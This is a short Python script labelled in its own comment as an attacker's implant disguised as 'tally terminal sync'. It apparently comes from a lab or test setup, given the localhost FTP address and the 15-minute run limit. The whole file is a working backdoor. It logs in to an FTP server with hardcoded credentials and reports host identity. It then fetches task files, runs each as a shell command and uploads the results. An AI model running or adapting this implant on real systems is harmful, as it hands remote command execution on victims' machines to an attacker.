# "tally terminal sync" (the attacker's implant): polls an FTP account for
# task files, runs each with /bin/sh -c and uploads the output
import ftplib, io, os, socket, subprocess, sys, time
H, P, U, PW = "127.0.0.1", 2121, "hallsync", "Kw7-ravens-2026"
seen, fails, t0 = set(), 0, time.time()
hello = False
while time.time() - t0 < 900 and fails < 20:
    try:
        f = ftplib.FTP()
        f.connect(H, P, timeout=10)
        f.login(U, PW)
        if not hello:
            f.storbinary("STOR hello/%s-%d.txt" % (socket.gethostname(), os.getpid()),
                         io.BytesIO(subprocess.getoutput("id; uname -n").encode()))
            hello = True
        for n in sorted(f.nlst("tasks")):
            b = os.path.basename(n)
            if b in seen or not b.endswith(".txt"):
                continue
            seen.add(b)
            buf = io.BytesIO()
            f.retrbinary("RETR tasks/" + b, buf.write)
            r = subprocess.run(["/bin/sh", "-c", buf.getvalue().decode()], capture_output=True, timeout=120)
            f.storbinary("STOR out/" + b, io.BytesIO(r.stdout + r.stderr))
        f.quit()
        fails = 0
    except Exception:
        fails += 1
    time.sleep(3)
